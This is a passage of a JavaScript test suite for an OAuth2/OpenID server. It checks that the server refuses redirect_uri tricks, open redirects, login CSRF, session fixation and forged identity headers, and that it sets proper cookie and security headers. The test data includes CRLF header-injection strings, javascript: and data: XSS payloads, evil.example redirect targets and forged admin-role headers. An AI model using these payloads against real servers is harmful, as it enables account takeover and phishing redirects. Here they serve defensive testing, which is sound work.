    await signIn(srv.origin, { clientId: 'backend', pkce: false });
  });

  // -------------------------------------------------------------------------
  // redirect_uri manipulation: each must give the 400 HTML page, never a Location

  async function assertRedirectUriRefused(variants) {
    // control: the exact registered URI shows the login form
    const ok = await req(authorizeUrl(srv.origin, authParams()));
    assert.equal(ok.status, 200, 'control: the registered redirect_uri gets the login page');
    for (const uri of variants) {
      const what = `redirect_uri ${JSON.stringify(uri)}`;
      const p = authParams({ redirect_uri: uri });
      assertHtml400(await req(authorizeUrl(srv.origin, p)), `GET ${what}`);
      assertHtml400(await req(srv.url('/oauth2/authorize'), { method: 'POST', form: p }), `POST ${what}`);
      // the login form's hidden redirect_uri tampered, with correct credentials
      const b = new Browser(srv.origin);
      const page = await b.go(authorizeUrl(srv.origin, authParams()));
      rememberBrowser('redirect tamper', b);
      assertHtml400(await b.submit(page, { username: 'alice', password: ALICE_PASSWORD, redirect_uri: uri }), `login form ${what}`);
    }
    // a code issued to the registered URI cannot be redeemed with a variant
    const a = await authorize(srv.origin, { password: ALICE_PASSWORD });
    remember('code', a.code);
    rememberBrowser('redirect', a.browser);
    const r = await redeemCode(srv.origin, { ...a, redirectUri: variants[0] });
    assert.equal(r.status, 400, `token endpoint with ${variants[0]}: ${r.status}`);
    assert.equal(r.json().error, 'invalid_grant');
  }

  it('redirect_uri prefix tricks', async () => {
    await assertRedirectUriRefused([
      'http://127.0.0.1:4000/callbac',
      'http://127.0.0.1:4000/call',
      'http://127.0.0.1:4000/',
      'http://127.0.0.1:4000',
      'http://127.0.0.1:400/callback',
      'http://127.0.0.1',
      'http://',
      '',
    ]);
  });

  it('redirect_uri suffix tricks', async () => {
    await assertRedirectUriRefused([
      'http://127.0.0.1:4000/callback/',
      'http://127.0.0.1:4000/callbackx',
      'http://127.0.0.1:4000/callback/evil',
      'http://127.0.0.1:4000/callback?next=https://evil.example',
      'http://127.0.0.1:4000/callback#https://evil.example',
      'http://127.0.0.1:4000/callback.evil.example',
      'http://127.0.0.1:4000/callback@evil.example',
      'http://127.0.0.1:40000/callback',
      'http://127.0.0.1:4000.evil.example/callback',
      'http://127.0.0.1:4000@evil.example/callback',
      'http://127.0.0.1:4000/callback ',
      'http://127.0.0.1:4000/callback\t',
      'http://127.0.0.1:4000/callback\r\nLocation: https://evil.example',
    ]);
  });

  it('redirect_uri case tricks', async () => {
    await assertRedirectUriRefused([
      'http://127.0.0.1:4000/CALLBACK',
      'http://127.0.0.1:4000/Callback',
      'HTTP://127.0.0.1:4000/callback',
      'Http://127.0.0.1:4000/callback',
      'http://LOCALHOST:4000/callback',
      'http://Localhost:4000/callback',
    ]);
  });

  it('redirect_uri path-traversal tricks', async () => {
    await assertRedirectUriRefused([
      'http://127.0.0.1:4000/callback/../callback',
      'http://127.0.0.1:4000/x/../callback',
      'http://127.0.0.1:4000/./callback',
      'http://127.0.0.1:4000/callback/.',
      'http://127.0.0.1:4000/callback/..',
      'http://127.0.0.1:4000//callback',
      'http://127.0.0.1:4000/../callback',
      'http://127.0.0.1:4000/callback/../../evil',
      'http://127.0.0.1:4000/callback/..%2fevil',
      'http://127.0.0.1:4000/%2e%2e/callback',
      'http://127.0.0.1:4000\\callback',
      'http://127.0.0.1:4000/callback\\..\\evil',
      'http://127.0.0.1:4000\\@evil.example/callback',
    ]);
  });

  it('redirect_uri percent-encoding tricks', async () => {
    await assertRedirectUriRefused([
      'http://127.0.0.1:4000/%63allback',
      'http://127.0.0.1:4000/callbac%6b',
      'http://127.0.0.1:4000/callback%2f',
      'http://127.0.0.1:4000/callback%2F',
      'http://127.0.0.1:4000%2Fcallback',
      'http://127.0.0.1%3A4000/callback',
      'http://127%2E0%2E0%2E1:4000/callback',
      'http%3A%2F%2F127.0.0.1%3A4000%2Fcallback',
      'http://127.0.0.1:4000/callback%00',
      'http://127.0.0.1:4000/callback%0d%0aLocation:%20https://evil.example',
      'http://127.0.0.1:4000/callback%23frag',
      'http://127.0.0.1:4000/callback%3Fx=1',
      'http://127.0.0.1:4000/callback\u0000',
      'http://127.0.0.1:4000/cаllback', // Cyrillic а
    ]);
    // legitimate: one level of form encoding of every character decodes to the exact URI
    const p = authParams();
    const enc = (s) => [...Buffer.from(s)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
    const query = Object.entries(p).map(([k, v]) => `${k}=${k === 'redirect_uri' ? enc(v) : encodeURIComponent(v)}`).join('&');
    const page = await req(`${srv.origin}/oauth2/authorize?${query}`);
    assert.equal(page.status, 200, `a fully percent-encoded registered URI is the registered URI: ${page.status} ${page.text.slice(0, 200)}`);
  });

  // -------------------------------------------------------------------------
  // open redirects through end_session

  // post_logout_redirect_uris registered by some client: without a client named, the
  // server may redirect to one of them (Authgear's SDK sends only the URI); never elsewhere.
  const REGISTERED_POST_LOGOUT = [DEMO_POST_LOGOUT, 'http://127.0.0.1:4001/', 'http://127.0.0.1:4002/'];

  async function assertEndSessionRefuses(uris) {
    const l = await signIn(srv.origin);
    for (const uri of uris) {
      const what = `post_logout_redirect_uri ${JSON.stringify(uri)}`;
      const cases = [
        ['with a valid hint', { id_token_hint: l.tokens.id_token, post_logout_redirect_uri: uri, state: 's' }],
        ['with client_id', { client_id: 'demo', post_logout_redirect_uri: uri, state: 's' }],
        ['with hint and client_id', { id_token_hint: l.tokens.id_token, client_id: 'demo', post_logout_redirect_uri: uri }],
      ];
      if (!REGISTERED_POST_LOGOUT.includes(uri)) cases.push(['alone', { post_logout_redirect_uri: uri }]);
      for (const [how, params] of cases) {
        for (const res of [
          await req(endSessionUrl(srv.origin, params)),
          await req(srv.url('/oauth2/end_session'), { method: 'POST', form: params }),
          await req(endSessionUrl(srv.origin, params), { cookie: `session=${l.cookie}` }),
        ]) {
          assertHtml400(res, `${what} ${how}`);
          assert.ok(!/http-equiv\s*=\s*["']?refresh/i.test(res.text), `${what} ${how}: no meta refresh`);
          assert.ok(!res.text.includes(`href="${uri}`) || uri === '', `${what} ${how}: no link to the target`);
        }
      }
    }
    // legitimate: the registered URI logs out and redirects there
    const res = await req(endSessionUrl(srv.origin, { id_token_hint: l.tokens.id_token, post_logout_redirect_uri: DEMO_POST_LOGOUT, state: 'ok' }));
    assert.equal(res.status, 302, `legitimate logout: ${res.status}`);
    const u = new URL(res.location);
    assert.equal(`${u.origin}${u.pathname}`, DEMO_POST_LOGOUT);
    assert.equal(u.searchParams.get('state'), 'ok');
    assert.equal(await sessionValid(srv.origin, { bearer: l.tokens.access_token }), 'false', 'the legitimate logout revoked the session');
  }

  it('open redirect through end_session: an unregistered post_logout_redirect_uri', async () => {
    await assertEndSessionRefuses([
      'http://127.0.0.1:4000/evil',
      'http://127.0.0.1:4000',
      'http://127.0.0.1:4000/?next=https://evil.example',
      'http://127.0.0.1:4000/#x',
      'http://127.0.0.1:4000.evil.example/',
      'http://127.0.0.1:4002/', // registered, but for another client than the hint's / client_id's
    ]);
  });

  it('open redirect through end_session: //evil.example', async () => {
    await assertEndSessionRefuses(['//evil.example', '//evil.example/', '///evil.example', '/\\evil.example', '\\\\evil.example']);
  });

  it('open redirect through end_session: https://evil.example', async () => {
    await assertEndSessionRefuses(['https://evil.example', 'https://evil.example/', 'https://evil.example/?state=x', 'http://evil.example/']);
  });

  it('open redirect through end_session: javascript:', async () => {
    await assertEndSessionRefuses(['javascript:alert(document.domain)', 'JaVaScRiPt:alert(1)', 'javascript://127.0.0.1:4000/%0aalert(1)', 'data:text/html,<script>alert(1)</script>']);
  });

  // -------------------------------------------------------------------------
  // browser sessions

  it('login CSRF (POST login without or with a wrong csrf_token)', async () => {
    // the attacker's own, valid csrf pair from another browser
    const attacker = new Browser(srv.origin);
    const attackerPage = await attacker.go(authorizeUrl(srv.origin, authParams()));
    const attackerToken = remember('attacker csrf', parseForm(attackerPage.text).fields.csrf_token);
    for (const variant of ['no csrf_token field', 'wrong csrf_token', 'empty csrf_token', 'no csrf cookie', 'empty csrf cookie', 'the attacker\'s token', 'the attacker\'s token and cookie name mismatch']) {
      const b = new Browser(srv.origin);
      const page = await b.go(authorizeUrl(srv.origin, authParams()));
      assert.equal(page.status, 200);
      rememberBrowser('csrf victim', b);
      const form = parseForm(page.text);
      const fields = { ...form.fields, username: 'alice', password: ALICE_PASSWORD };
      if (variant === 'no csrf_token field') delete fields.csrf_token;
      if (variant === 'wrong csrf_token') fields.csrf_token = `${fields.csrf_token.slice(0, -1)}${fields.csrf_token.endsWith('a') ? 'b' : 'a'}`;
      if (variant === 'empty csrf_token') fields.csrf_token = '';
      if (variant === 'no csrf cookie') b.jar.delete('csrf');
      if (variant === 'empty csrf cookie') { b.setCookie('csrf', '', { path: '/oauth2' }); fields.csrf_token = ''; }
      if (variant === 'the attacker\'s token') fields.csrf_token = attackerToken;
      if (variant === 'the attacker\'s token and cookie name mismatch') { fields.csrf_token = attackerToken; b.setCookie('csrf_', attackerToken, { path: '/oauth2' }); }
      const res = await b.fetch(srv.url('/oauth2/authorize'), { method: 'POST', form: fields });
      assertHtml400(res, `login CSRF: ${variant}`);
      assert.equal(b.cookie('session'), undefined, `${variant}: the browser got no session`);
    }
    // legitimate: the right token logs in
    const b = new Browser(srv.origin);
    const page = await b.go(authorizeUrl(srv.origin, authParams()));
    const res = await b.submit(page, { username: 'alice', password: ALICE_PASSWORD });
    assert.equal(res.status, 302, `legitimate login: ${res.status}`);
    assert.ok(new URL(res.location).searchParams.get('code'));
    assert.ok(cookieNamed(res, 'session'), 'legitimate login sets the session cookie');
    rememberBrowser('csrf legit', b);
    remember('code', new URL(res.location).searchParams.get('code'));
  });

  it('session fixation', async () => {
    // 1. a made-up session cookie planted before login
    const planted = `${crypto.randomUUID()}.${crypto.randomBytes(24).toString('base64').replace(/[^A-Za-z0-9]/g, '').slice(0, 32).padEnd(32, 'a')}`;
    remember('planted cookie', planted);
    const b = new Browser(srv.origin);
    b.setCookie('session', planted);
    const a = await authorize(srv.origin, { browser: b, password: ALICE_PASSWORD });
    remember('code', a.code);
    const after = b.cookie('session');
    rememberBrowser('fixation', b);
    assert.ok(after, 'a session cookie after login');
    assert.notEqual(after, planted, 'the planted value is not the session');
    assert.notEqual(after.split('.')[0], planted.split('.')[0], 'nor is its id');
    assert.equal(await sessionValid(srv.origin, { cookie: `session=${after}` }), 'true');
    assert.equal(await sessionValid(srv.origin, { cookie: `session=${planted}` }), 'false', 'the planted value never becomes valid');
    const t = await redeemCode(srv.origin, a);
    assert.equal(t.status, 200);
    rememberTokens('fixation', t.json());
    assert.equal(await sessionValid(srv.origin, { cookie: `session=${planted}` }), 'false', 'still not valid after the code exchange');

    // 2. the attacker's own valid session planted into the victim's browser; the victim signs in
    const bob = await signIn(srv.origin, { username: 'bob' });
    const v = new Browser(srv.origin);
    v.setCookie('session', bob.cookie);
    const page = await v.go(authorizeUrl(srv.origin, authParams({ prompt: 'login' })));
    assert.equal(page.status, 200, 'prompt=login shows the form despite the planted session');
    const res = await v.submit(page, { username: 'alice', password: ALICE_PASSWORD });
    assert.equal(res.status, 302);
    rememberBrowser('fixation victim', v);
    const victimCookie = v.cookie('session');
    assert.notEqual(victimCookie, bob.cookie, 'the victim got a new session, not the planted one');
    assert.notEqual(victimCookie.split('.')[0], bob.cookie.split('.')[0]);
    const planted2 = await resolve(srv.origin, { cookie: `session=${bob.cookie}` });
    assert.notEqual(planted2.ag['x-authgear-user-id'], srv.userIds.alice, 'the planted session never becomes the victim\'s');
    const mine = await resolve(srv.origin, { cookie: `session=${victimCookie}` });
    assert.equal(mine.ag['x-authgear-user-id'], srv.userIds.alice, 'the new session is the victim\'s');

    // 3. the CSRF cookie value is never a session
    assert.equal(await sessionValid(srv.origin, { cookie: `session=${v.cookie('csrf')}` }), 'false');
  });

  it('cookie attributes (HttpOnly, SameSite=Lax, Path=/, Secure on an https origin)', async () => {
    for (const [server, https] of [[srv, false], [secure, true]]) {
      const what = https ? 'https origin' : 'http origin';
      const b = new Browser(server.origin);
      const page = await b.go(authorizeUrl(server.origin, authParams()));
      assert.equal(page.status, 200);
      const csrf = cookieNamed(page, 'csrf');
      assert.ok(csrf, `${what}: csrf cookie set`);
      remember('csrf cookie', csrf.value);
      assert.equal(csrf.attrs.httponly, true, `${what}: csrf HttpOnly (${csrf.raw})`);
      assert.equal(String(csrf.attrs.samesite).toLowerCase(), 'lax', `${what}: csrf SameSite=Lax`);
      assert.equal(csrf.attrs.path, '/oauth2', `${what}: csrf Path=/oauth2`);
      assert.equal(csrf.attrs.domain, undefined, `${what}: csrf host-only`);
      assert.equal(csrf.attrs.secure, https ? true : undefined, `${what}: csrf Secure iff https (${csrf.raw})`);

      const res = await b.submit(page, { username: 'alice', password: ALICE_PASSWORD });
      assert.equal(res.status, 302);
      const s = cookieNamed(res, 'session');
      assert.ok(s, `${what}: session cookie set`);
      remember('session cookie', s.value);
      remember('code', new URL(res.location).searchParams.get('code'));
      assert.match(s.value, /^[A-Za-z0-9-]+\.[A-Za-z0-9]{32}$/, `${what}: <id>.<32 alphanumerics>`);
      assert.equal(s.attrs.httponly, true, `${what}: session HttpOnly (${s.raw})`);
      assert.equal(String(s.attrs.samesite).toLowerCase(), 'lax', `${what}: session SameSite=Lax (${s.raw})`);
      assert.equal(s.attrs.path, '/', `${what}: session Path=/`);
      assert.equal(s.attrs.domain, undefined, `${what}: session host-only without cookie_domain`);
      assert.equal(s.attrs.secure, https ? true : undefined, `${what}: session Secure iff https (${s.raw})`);
      if (https) assert.equal(new URL(res.location).searchParams.get('iss'), SECURE_ORIGIN);

      // the cookie that clears a bad session, and the one that clears at logout, match it
      const cleared = (await resolve(server.origin, { cookie: `session=${s.value.split('.')[0]}.${'Z'.repeat(32)}` })).setCookies.map(parseSetCookie).find((c) => c.name === 'session');
      assert.ok(cleared && isClearing(cleared), `${what}: a bad cookie is cleared`);
      const logout = await b.fetch(endSessionUrl(server.origin, {}));
      const confirmIdx = parseForms(logout.text).findIndex((f) => f.method === 'post');
      assert.ok(confirmIdx >= 0, `${what}: the logout confirmation form`);
      const done = await b.submit(logout, { confirm: 'yes' }, { formIndex: confirmIdx });
      assert.ok(done.status === 200 || done.status === 302, `${what}: logout ${done.status}`);
      const gone = done.setCookies.map(parseSetCookie).find((c) => c.name === 'session') ?? b.history.flatMap((h) => h.setCookies).map(parseSetCookie).reverse().find((c) => c.name === 'session' && isClearing(c));
      for (const [which, c] of [['resolver', cleared], ['logout', gone]]) {
        assert.ok(c && isClearing(c), `${what}: ${which} clears the session cookie`);
        assert.equal(c.attrs.path, '/', `${what}: ${which} clearing cookie on Path=/`);
        assert.equal(c.attrs.httponly, true, `${what}: ${which} clearing cookie HttpOnly`);
        assert.equal(String(c.attrs.samesite).toLowerCase(), 'lax', `${what}: ${which} clearing cookie SameSite=Lax`);
        assert.equal(c.attrs.secure, https ? true : undefined, `${what}: ${which} clearing cookie Secure iff https`);
      }
      assert.equal(await sessionValid(server.origin, { cookie: `session=${s.value}` }), 'false', `${what}: logged out`);
    }
  });

  it('forged X-Authgear-* request headers are never echoed as identity', async () => {
    const alice = await signIn(srv.origin);
    const bob = await signIn(srv.origin, { username: 'bob' });
    const revoked = await signIn(srv.origin);
    assert.equal((await revoke(srv.origin, revoked.tokens.refresh_token)).status, 200);
    const forged = {
      'x-authgear-session-valid': 'true',
      'x-authgear-user-id': srv.userIds.bob,
      'x-authgear-user-anonymous': 'false',
      'x-authgear-user-verified': 'true',
      'x-authgear-user-can-reauthenticate': 'true',
      'x-authgear-user-roles': 'admin,root',
      'x-authgear-session-amr': 'mfa otp',
      'x-authgear-session-authenticated-at': '4102444800',
    };
    const upper = Object.fromEntries(Object.entries(forged).map(([k, val]) => [k.toUpperCase(), val]));
    for (const headers of [forged, upper]) {
      const none = await resolve(srv.origin, { headers });
      assert.deepEqual(none.ag, {}, `no credential + forged headers: ${JSON.stringify(none.ag)}`);
      const strict = await resolve(srv.origin, { headers, query: '?strict=true' });
      assert.equal(strict.status, 401, 'strict, no credential + forged headers');
      assert.deepEqual(strict.ag, {});
      onlyInvalid(await resolve(srv.origin, { headers, bearer: 'garbage' }), 'garbage bearer + forged headers');
      onlyInvalid(await resolve(srv.origin, { headers, bearer: revoked.tokens.access_token }), 'revoked bearer + forged headers');
      for (const cred of [{ bearer: alice.tokens.access_token }, { cookie: `session=${alice.cookie}` }]) {
        const r = await resolve(srv.origin, { headers, ...cred });
        assert.equal(r.ag['x-authgear-session-valid'], 'true');
        assert.equal(r.ag['x-authgear-user-id'], srv.userIds.alice, 'the real user, not the forged one');
        assert.equal(r.ag['x-authgear-user-verified'], 'false', 'alice is not verified');
        assert.equal(r.ag['x-authgear-user-roles'], undefined, 'alice has no roles; the forged ones are not echoed');
        assert.equal(r.ag['x-authgear-session-amr'], 'pwd');
        assert.notEqual(r.ag['x-authgear-session-authenticated-at'], '4102444800');
      }
    }
    // a duplicated, mixed-case forged header on the wire
    const wire = await rawSocket(srv.origin, Buffer.from(
      'GET /_resolver/resolve HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Authgear-Session-Valid: true\r\nx-authgear-session-valid: true\r\n'
      + `X-AuthGear-User-Id: ${srv.userIds.bob}\r\nConnection: close\r\n\r\n`,
    ));
    assert.equal(wire.status, 200);
    assert.ok(!/^x-authgear-/im.test(wire.head), `raw request with forged headers: ${wire.head}`);
    // the real user with roles still gets them
    const r = await resolve(srv.origin, { bearer: bob.tokens.access_token, headers: { 'x-authgear-user-roles': 'nobody' } });
    assert.equal(r.ag['x-authgear-user-roles'], 'admin');
  });

  it('security headers (no-store on token responses, nosniff everywhere, no framing of the login page)', async () => {
    const a = await authorize(srv.origin, { password: ALICE_PASSWORD });
    remember('code', a.code);
    rememberBrowser('headers', a.browser);
    const responses = [];
    const keep = (what, r) => { responses.push([what, r]); return r; };
    // token responses, success and errors
    const code = keep('token: authorization_code 200', await redeemCode(srv.origin, a));
    assert.equal(code.status, 200);
    const t = rememberTokens('headers', code.json());
    const tokenResponses = [
      ['token: authorization_code 200', code],
      ['token: refresh 200', keep('token: refresh 200', await refresh(srv.origin, t.refresh_token))],
      ['token: client_credentials 200', keep('token: client_credentials 200', await tokenRequest(srv.origin, { grant_type: 'client_credentials' }, { basic: ['backend', BACKEND_SECRET] }))],
      ['token: invalid_grant 400', keep('token: invalid_grant 400', await refresh(srv.origin, `${t.refresh_token.split('.')[0]}.${'Q'.repeat(32)}`))],
      ['token: invalid_client 401', keep('token: invalid_client 401', await tokenRequest(srv.origin, { grant_type: 'client_credentials' }, { basic: ['backend', 'wrong-secret-value'] }))],
      ['token: unsupported_grant_type 400', keep('token: unsupported_grant_type 400', await tokenRequest(srv.origin, { grant_type: 'password', username: 'alice', password: ALICE_PASSWORD }))],
    ];
    rememberTokens('headers refresh', tokenResponses[1][1].json());
    rememberTokens('headers client', tokenResponses[2][1].json());
    for (const [what, r] of tokenResponses) {
      assert.match(r.headers.get('cache-control') ?? '', /no-store/, `${what}: Cache-Control no-store`);
      assert.equal(r.headers.get('pragma'), 'no-cache', `${what}: Pragma no-cache`);
    }
    // browser pages: the login page and its re-render after a failed sign-in
    const b = new Browser(srv.origin);
    const page = keep('login page', await b.go(authorizeUrl(srv.origin, authParams())));
    rememberBrowser('headers login', b);
    const failed = keep('login page after a wrong password', await b.submit(page, { username: 'alice', password: 'wrong-password-for-headers' }));
    remember('wrong password', 'wrong-password-for-headers');
    assert.equal(failed.status, 200);
    assert.match(failed.text, /<form/);
    const errorPage = keep('authorize 400 page', await req(authorizeUrl(srv.origin, authParams({ client_id: 'nope' }))));
    const l = await signIn(srv.origin);
    const confirm = keep('logout confirmation page', await req(endSessionUrl(srv.origin, {}), { cookie: `session=${l.cookie}` }));
    assert.equal(confirm.status, 200);
    for (const [what, r] of [['login page', page], ['login page after a wrong password', failed], ['authorize 400 page', errorPage], ['logout confirmation page', confirm]]) {
      const csp = r.headers.get('content-security-policy') ?? '';
      assert.match(csp, /frame-ancestors 'none'/, `${what}: CSP frame-ancestors 'none' (${csp})`);
      assert.equal(r.headers.get('x-frame-options'), 'DENY', `${what}: X-Frame-Options DENY`);
      assert.match(r.headers.get('cache-control') ?? '', /no-store/, `${what}: Cache-Control no-store`);
      assert.equal(r.headers.get('referrer-policy'), 'no-referrer', `${what}: Referrer-Policy`);
    }
    // nosniff on every kind of response
    const others = [
      ['discovery', await req(srv.url('/.well-known/openid-configuration'))],
      ['authorization server metadata', await req(srv.url('/.well-known/oauth-authorization-server'))],
      ['jwks', await req(srv.url('/oauth2/jwks'))],
      ['authorize error redirect', await req(authorizeUrl(srv.origin, authParams({ response_type: 'token' })))],
      ['login 302', a.response],
      ['revoke 200', await revoke(srv.origin, 'not-a-token-at-all')],
      ['revoke 400', await req(srv.url('/oauth2/revoke'), { method: 'POST', form: {} })],
      ['userinfo 200', await req(srv.url('/oauth2/userinfo'), { bearer: l.tokens.access_token })],
      ['userinfo 401', await req(srv.url('/oauth2/userinfo'))],
      ['resolver anonymous', (await resolve(srv.origin)).res],
      ['resolver valid', (await resolve(srv.origin, { bearer: l.tokens.access_token })).res],
      ['resolver invalid', (await resolve(srv.origin, { bearer: 'nope' })).res],
      ['resolver strict 401', (await resolve(srv.origin, { query: '?strict=true' })).res],
      ['resolver HEAD', (await resolve(srv.origin, { method: 'HEAD', bearer: l.tokens.access_token })).res],
      ['end_session 400', await req(endSessionUrl(srv.origin, { post_logout_redirect_uri: 'https://evil.example' }))],
      ['end_session signed-out page', await req(endSessionUrl(srv.origin, {}))],
      ['healthz', await req(srv.url('/healthz'))],
      ['404', await req(srv.url('/no/such/path'))],
      ['405', await req(srv.url('/oauth2/token'))],
      ['405 on a page', await req(srv.url('/oauth2/authorize'), { method: 'DELETE' })],
      ['CORS preflight', await req(srv.url('/oauth2/token'), { method: 'OPTIONS', headers: { origin: 'http://127.0.0.1:4000', 'access-control-request-method': 'POST' } })],
    ];
    const big = await raw(srv.origin, { method: 'POST', path: '/oauth2/token', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a='.padEnd(70 * 1024, 'x') });
    assert.equal(big.status, 413);
    assert.equal(big.headers['x-content-type-options'], 'nosniff', '413: nosniff');
    for (const [what, r] of [...responses, ...others]) {
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff', `${what} (${r.status}): X-Content-Type-Options nosniff`);
    }
  });

  // The last test: it checks everything the file issued (and, so that it also means
  // something when run alone, runs a small flow with failures of its own first).
  it('tokens and secrets never appear in the logs', async () => {
    for (const server of [srv, secure]) {
      const l = await signIn(server.origin);
      const r = await refresh(server.origin, l.tokens.refresh_token);
      assert.equal(r.status, 200);
      rememberTokens('logs', r.json());
      assert.equal((await redeemCode(server.origin, l)).status, 400, 'a replayed code');
      const b = new Browser(server.origin);
      const page = await b.go(authorizeUrl(server.origin, authParams()));
      rememberBrowser('logs', b);
      remember('csrf token', parseForm(page.text).fields.csrf_token);
      const wrong = remember('wrong password', `wrong-${crypto.randomBytes(8).toString('hex')}`);
      assert.equal((await b.submit(page, { username: 'alice', password: wrong })).status, 200, 'a failed sign-in');
      await resolve(server.origin, { cookie: `session=${l.cookie}` });
      await req(new URL('/oauth2/userinfo', server.origin), { bearer: r.json().access_token });
      await revoke(server.origin, r.json().refresh_token);
    }
    await sleep(300); // let the last log lines flush
    assert.ok(seen.size > 30, `enough secrets were collected (${seen.size})`);
    for (const [name, server] of [['http server (debug text logs)', srv], ['https server (JSON logs)', secure]]) {
      const logs = server.logs();
      assert.ok(logs.includes('latchkey listening on'), `${name}: logs were captured`);
      assert.match(logs, /\/oauth2\/authorize/, `${name}: the access log is there`);
      const leaked = [];
      for (const [what, value] of seen) {
        if (logs.includes(value) || logs.includes(encodeURIComponent(value))) leaked.push(what);
      }
      assert.deepEqual(leaked, [], `${name}: secrets found in the logs: ${leaked.join(', ')}`);
    }
  });
});
